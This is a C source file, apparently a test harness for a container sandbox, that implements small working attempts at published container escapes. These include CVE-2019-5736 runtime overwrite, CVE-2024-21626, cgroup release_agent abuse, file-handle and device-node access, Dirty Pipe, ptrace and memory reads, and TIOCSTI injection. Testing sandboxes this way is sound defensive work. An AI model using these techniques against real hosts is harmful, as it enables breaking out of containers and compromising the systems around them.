/* Published ways out of containers, each as a small attempt of our own. `escapes NAME ARGUMENTS...` prints "ESCAPED NAME"
 * where it believes that it is out; what the host shows counts besides (test_escapes.py). Everything here works on Linux
 * itself for root, but for "dirty_pipe", which a mended kernel refuses, and whose test is shown to fail by "--really". */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef AT_EMPTY_PATH
#define AT_EMPTY_PATH 0x1000
#endif

static int put(int directory, const char *path, const char *text)
{
    int fd = openat(directory, path, O_WRONLY | O_CREAT | O_NOCTTY, 0644);
    if (fd < 0)
        return 0;
    int done = write(fd, text, strlen(text)) == (ssize_t)strlen(text);
    close(fd);
    return done;
}

static int put_existing(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY | O_NOCTTY);
    if (fd < 0)
        return 0;
    int done = write(fd, text, strlen(text)) == (ssize_t)strlen(text);
    close(fd);
    return done;
}

/* CVE-2019-5736: the runtime's own program, kept by a path descriptor until nobody executes it any more. PID: a victim; 0: all. */
static int self_exe(char **argument)
{
    int found[256], count = 0, victim = atoi(argument[0]);
    char name[64], own[64];
    DIR *processes = opendir("/proc");
    struct dirent *entry;
    snprintf(own, sizeof own, "%d", getpid());
    while (processes && (entry = readdir(processes)) && count < 256) {
        if (!atoi(entry->d_name) || !strcmp(entry->d_name, own))
            continue;
        snprintf(name, sizeof name, "/proc/%d/exe", atoi(entry->d_name));
        int fd = victim && victim != atoi(entry->d_name) ? -1 : open(name, O_PATH);
        if (fd >= 0)
            found[count++] = fd;
    }
    if (victim)
        kill(victim, SIGKILL);
    int done = 0;
    for (int round = 0; round < (victim ? 50 : 1) && !done; round++) {
        for (int i = 0; i < count; i++) {
            snprintf(name, sizeof name, "/proc/self/fd/%d", found[i]);
            done |= put_existing(name, "overwritten");
        }
        usleep(20000);
    }
    return done;
}

/* Descriptors of the host that the runtime has left open, as they are and through /proc/self/fd. DIRECTORY is the host's. */
static int leaked_descriptors(char **argument)
{
    char name[PATH_MAX];
    int done = 0;
    (void)argument;
    for (int fd = 3; fd < 256; fd++) {
        done |= put(fd, "mark", "leak");
        snprintf(name, sizeof name, "/proc/self/fd/%d/mark", fd);
        done |= put(AT_FDCWD, name, "leak");
        snprintf(name, sizeof name, "/proc/1/fd/%d/mark", fd);
        done |= put(AT_FDCWD, name, "leak");
    }
    return done;
}

/* CVE-2024-21626: a working directory that is outside. */
static int working_directory(char **argument)
{
    (void)argument;
    return put(AT_FDCWD, "mark", "cwd") | put(AT_FDCWD, "/proc/self/cwd/mark", "cwd");
}

/* A cgroup hierarchy of one's own, whose release agent the host runs as root. */
static int release_agent(char **argument)
{
    char name[PATH_MAX];
    int done = 0;
    (void)argument;
    if (unshare(CLONE_NEWNS) != 0 && unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0)
        return 0;
    mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL);
    const char *places[] = {"/tmp", "/var/tmp", "/mnt", "/run"};
    for (size_t i = 0; i < sizeof places / sizeof *places && !done; i++) {
        if (mount("cgroup", places[i], "cgroup", 0, "none,name=skerry-escape") != 0)
            continue;
        snprintf(name, sizeof name, "%s/release_agent", places[i]);
        done = put_existing(name, "/bin/true");
        put_existing(name, "\n");
        umount2(places[i], MNT_DETACH);
    }
    return done;
}

/* Files by their handle, past all mounts. HANDLE-TYPE HANDLE-HEX MOUNT-POINT; without HANDLE it prints that of MOUNT-POINT. */
static int file_handle(char **argument)
{
    struct {
        struct file_handle head;
        unsigned char bytes[128];
    } handle = {.head = {.handle_bytes = 128}};
    if (!strcmp(argument[0], "print")) {
        int mount_id;
        if (syscall(SYS_name_to_handle_at, AT_FDCWD, argument[1], &handle.head, &mount_id, 0) != 0)
            return 0;
        printf("%d ", handle.head.handle_type);
        for (unsigned i = 0; i < handle.head.handle_bytes; i++)
            printf("%02x", handle.head.f_handle[i]);
        printf("\n");
        return 0;
    }
    handle.head.handle_type = atoi(argument[0]);
    handle.head.handle_bytes = strlen(argument[1]) / 2;
    for (unsigned i = 0; i < handle.head.handle_bytes && i < sizeof handle.bytes; i++)
        sscanf(argument[1] + 2 * i, "%2hhx", &handle.head.f_handle[i]);
    const char *places[] = {argument[2], "/", "/etc/hosts", "/tmp", "/usr", "/dev"};
    for (size_t i = 0; i < sizeof places / sizeof *places; i++) {
        int place = open(places[i], O_RDONLY | O_NONBLOCK | O_NOCTTY);
        int fd = place < 0 ? -1 : (int)syscall(SYS_open_by_handle_at, place, &handle.head, O_RDWR);
        if (fd >= 0)
            return write(fd, "handle", 6) == 6;
    }
    return 0;
}

/* The host's disk and its kernel's log, by nodes of one's own. MAJOR MINOR: the disk's. */
static int device_nodes(char **argument)
{
    char name[PATH_MAX], text[8192];
    struct {
        mode_t kind;
        dev_t device;
    } devices[] = {{S_IFBLK, makedev(atoi(argument[0]), atoi(argument[1]))}, {S_IFCHR, makedev(1, 11)}};
    const char *places[] = {getenv("TMPDIR") ? getenv("TMPDIR") : "/tmp", "/tmp", "/dev", "/var/tmp", "/dev/shm"};
    for (size_t i = 0; i < 2 * sizeof places / sizeof *places; i++) {
        snprintf(name, sizeof name, "%s/skerry-node-%d", places[i / 2], getpid());
        if (mknod(name, devices[i % 2].kind | 0600, devices[i % 2].device) != 0)
            continue;
        int fd = open(name, O_RDONLY | O_NONBLOCK);
        unlink(name);
        if (fd >= 0 && read(fd, text, sizeof text) > 0)
            return 1;
    }
    return 0;
}

static int core_pattern(char **argument)
{
    (void)argument;
    return put_existing("/proc/sys/kernel/core_pattern", "|/skerry/escape");
}

static int sysrq(char **argument)
{
    (void)argument;
    return put_existing("/proc/sysrq-trigger", "h");
}

/* A key of the user's, that everybody with this user id shares. "add" makes it, "drop" takes it away. */
static int keyring(char **argument)
{
    const long ADD_TO_USER = -4, SEARCH = 10, READ = 11, UNLINK = 9;
    char text[16] = "";
    if (!strcmp(argument[0], "add"))
        return syscall(SYS_add_key, "user", "skerry-escape", "secret", 6, ADD_TO_USER) >= 0 ? 0 : 0;
    long key = syscall(SYS_keyctl, SEARCH, ADD_TO_USER, "user", "skerry-escape", 0);
    if (key < 0)
        key = syscall(SYS_request_key, "user", "skerry-escape", NULL, 0);
    if (!strcmp(argument[0], "drop")) {
        syscall(SYS_keyctl, UNLINK, key, ADD_TO_USER);
        return 0;
    }
    return key >= 0 && syscall(SYS_keyctl, READ, key, text, sizeof text) == 6 && !memcmp(text, "secret", 6);
}

/* All capabilities in a namespace of one's own, for what of the kernel they open. */
static int user_namespace(char **argument)
{
    (void)argument;
    return unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0 && mount("none", "/mnt", "tmpfs", 0, NULL) == 0;
}

/* CVE-2022-0847: a page of a file in a pipe, and a write that lands in it. FILE */
static int dirty_pipe(char **argument)
{
    int pipes[2], fd = open(argument[0], O_RDONLY);
    char buffer[4096];
    if (fd < 0 || pipe(pipes) != 0)
        return 0;
    int size = fcntl(pipes[1], F_GETPIPE_SZ);
    for (int left = size; left > 0; left -= sizeof buffer)
        if (write(pipes[1], buffer, sizeof buffer) < 0)
            break;
    for (int left = size; left > 0; left -= sizeof buffer)
        if (read(pipes[0], buffer, sizeof buffer) < 0)
            break;
    loff_t offset = 0;
    if (splice(fd, &offset, pipes[1], NULL, 1, 0) == 1)
        (void)!write(pipes[1], "PIPE", 4);
    /* The same by vmsplice(2) of a mapping, and by a private mapping and /proc/self/mem. */
    char *page = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
    if (page != MAP_FAILED) {
        struct iovec vector = {page, 1};
        if (pipe(pipes) == 0 && vmsplice(pipes[1], &vector, 1, 0) == 1)
            (void)!write(pipes[1], "PIPE", 4);
        int memory = open("/proc/self/mem", O_RDWR);
        if (memory >= 0)
            (void)!pwrite(memory, "PIPE", 4, (off_t)(uintptr_t)page);
        mprotect(page, 4096, PROT_READ | PROT_WRITE);
    }
    if (argument[1] && !strcmp(argument[1], "--really")) {
        int writable = open(argument[0], O_RDWR);
        (void)!pwrite(writable, "PIPE", 4, 1);
    }
    char now[8] = "";
    return pread(fd, now, 5, 0) == 5 && !memcmp(now + 1, "PIPE", 4);
}

/* Another process's memory. PID ADDRESS: there is "secret". */
static int memory_of_others(char **argument)
{
    int pid = atoi(argument[0]), done = 0;
    uintptr_t address = strtoull(argument[1], NULL, 0);
    char name[64], text[8] = "";
    struct iovec local = {text, 6}, remote = {(void *)address, 6};
    done |= process_vm_readv(pid, &local, 1, &remote, 1, 0) == 6 && !memcmp(text, "secret", 6);
    snprintf(name, sizeof name, "/proc/%d/mem", pid);
    int fd = open(name, O_RDWR);
    done |= fd >= 0 && pread(fd, text, 6, (off_t)address) == 6 && !memcmp(text, "secret", 6);
    snprintf(name, sizeof name, "/proc/%d/environ", pid);
    fd = open(name, O_RDONLY);
    char large[4096] = "";
    done |= fd >= 0 && read(fd, large, sizeof large - 1) > 0 && memmem(large, sizeof large, "SKERRY_SECRET", 13);
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        ptrace(PTRACE_DETACH, pid, 0, 0);
        done = 1;
    }
    return done;
}

/* The tree of another process. PID PATH */
static int root_of_others(char **argument)
{
    const char *links[] = {"root", "cwd"};
    char name[PATH_MAX];
    int done = 0;
    for (size_t i = 0; i < 2; i++) {
        snprintf(name, sizeof name, "/proc/%s/%s%s", argument[0], links[i], argument[1]);
        done |= put(AT_FDCWD, name, "root");
    }
    return done;
}

/* PID: signals, limits, priorities. */
static int processes_of_others(char **argument)
{
    int pid = atoi(argument[0]), done = kill(pid, 0) == 0 && kill(pid, SIGCONT) == 0;
    struct rlimit { unsigned long current, maximum; } none = {1 << 20, 1 << 20};
    done |= syscall(SYS_prlimit64, pid, 1 /* FSIZE */, &none, NULL) == 0;
    done |= syscall(SYS_setpriority, 0, pid, 5) == 0;
    cpu_set_t all;
    memset(&all, 0xff, sizeof all);
    done |= sched_setaffinity(pid, sizeof all, &all) == 0;
    return done;
}

/* Characters typed into the terminal that we were started from. */
static int typing(char **argument)
{
    char letter = 'x';
    (void)argument;
    return ioctl(0, TIOCSTI, &letter) == 0 || syscall(SYS_ioctl, 0, 1ull << 32 | TIOCSTI, &letter) == 0;
}

static int reach(const char *address, size_t length)
{
    struct sockaddr_un name = {.sun_family = AF_UNIX};
    memcpy(name.sun_path, address, length);
    int kinds[] = {SOCK_STREAM, SOCK_DGRAM}, done = 0;
    for (int i = 0; i < 2; i++) {
        int fd = socket(AF_UNIX, kinds[i], 0), pair[2];
        if (fd < 0 && socketpair(AF_UNIX, kinds[i], 0, pair) == 0)
            fd = pair[0];
        socklen_t size = offsetof(struct sockaddr_un, sun_path) + length;
        done |= fd >= 0 && connect(fd, (struct sockaddr *)&name, size) == 0;
        done |= fd >= 0 && sendto(fd, "x", 1, MSG_NOSIGNAL, (struct sockaddr *)&name, size) == 1 && getpeername(fd, (struct sockaddr *)&name, &size) == 0 && done;
    }
    return done;
}

/* CVE-2020-15257: an abstract socket of the host's. NAME */
static int abstract_socket(char **argument)
{
    char name[100] = "";
    strncpy(name + 1, argument[0], sizeof name - 2);
    return reach(name, 1 + strlen(argument[0]));
}

/* A socket of the host's in the tree that is shown. PATH */
static int socket_by_path(char **argument)
{
    return reach(argument[0], strlen(argument[0]) + 1);
}

static const struct {
    const char *name;
    int (*attempt)(char **);
} ATTEMPTS[] = {
    {"self_exe", self_exe}, {"leaked_descriptors", leaked_descriptors}, {"working_directory", working_directory},
    {"release_agent", release_agent}, {"file_handle", file_handle}, {"device_nodes", device_nodes},
    {"core_pattern", core_pattern}, {"sysrq", sysrq}, {"keyring", keyring}, {"user_namespace", user_namespace},
    {"dirty_pipe", dirty_pipe}, {"memory_of_others", memory_of_others}, {"root_of_others", root_of_others},
    {"processes_of_others", processes_of_others}, {"typing", typing}, {"abstract_socket", abstract_socket},
    {"socket_by_path", socket_by_path},
};

/* NAME ARGUMENTS... [, NAME ARGUMENTS...]...: each attempt in a process of its own. */
int main(int count, char **words)
{
    for (int at = 1; at < count; at++) {
        char **arguments = words + at + 1, *name = words[at];
        while (at < count && strcmp(words[at], ","))
            at++;
        words[at] = NULL;
        for (size_t i = 0; i < sizeof ATTEMPTS / sizeof *ATTEMPTS; i++) {
            if (strcmp(ATTEMPTS[i].name, name))
                continue;
            fflush(stdout);
            pid_t child = fork();
            if (child == 0) {
                alarm(5);
                if (ATTEMPTS[i].attempt(arguments))
                    printf("ESCAPED %s\n", name);
                fflush(stdout);
                _exit(0);
            }
            waitpid(child, NULL, 0);
            printf("tried %s\n", name);
        }
    }
    return 0;
}
